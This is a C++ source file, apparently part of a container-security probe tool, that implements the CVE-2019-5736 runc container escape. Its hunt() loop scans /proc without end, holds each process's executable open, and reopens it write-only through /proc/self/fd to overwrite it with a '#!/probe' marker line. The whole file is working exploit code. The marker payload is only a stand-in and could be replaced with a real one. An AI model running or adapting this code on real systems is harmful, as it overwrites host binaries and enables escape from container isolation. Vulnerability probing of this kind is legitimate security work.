// The attack of CVE-2019-5736, on every process that comes into sight.
#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include <string>

#include "json.h"
#include "verbs.h"

namespace probe {
namespace {

bool isOwn(const struct stat& status) {
  struct stat own = {};
  return stat("/proc/self/exe", &own) == 0 && own.st_dev == status.st_dev && own.st_ino == status.st_ino;
}

// Held by a descriptor, it stays within reach when the process has gone on, and can be written once nobody executes it.
void overwrite(const std::string& executable) {
  const int held = open(executable.c_str(), O_RDONLY | O_CLOEXEC);
  if (held < 0) return;
  struct stat status = {};
  if (fstat(held, &status) == 0 && !isOwn(status)) {
    const std::string again = "/proc/self/fd/" + std::to_string(held);
    for (int attempt = 0; attempt < 50; ++attempt) {
      const int target = open(again.c_str(), O_WRONLY | O_CLOEXEC);
      if (target < 0) continue;
      [[maybe_unused]] const ssize_t written = write(target, "#!/probe\n", 9);
      close(target);
      break;
    }
  }
  close(held);
}

}  // namespace

int hunt(Arguments /*arguments*/) {
  Json json;
  json.open('{').field("verb", "hunting").close('}').print();
  for (;;) {
    DIR* const processes = opendir("/proc");
    if (processes == nullptr) return 70;
    while (const dirent* entry = readdir(processes)) {
      if (strtol(entry->d_name, nullptr, 10) > 1) overwrite(std::string("/proc/") + entry->d_name + "/exe");
    }
    closedir(processes);
  }
}

}  // namespace probe
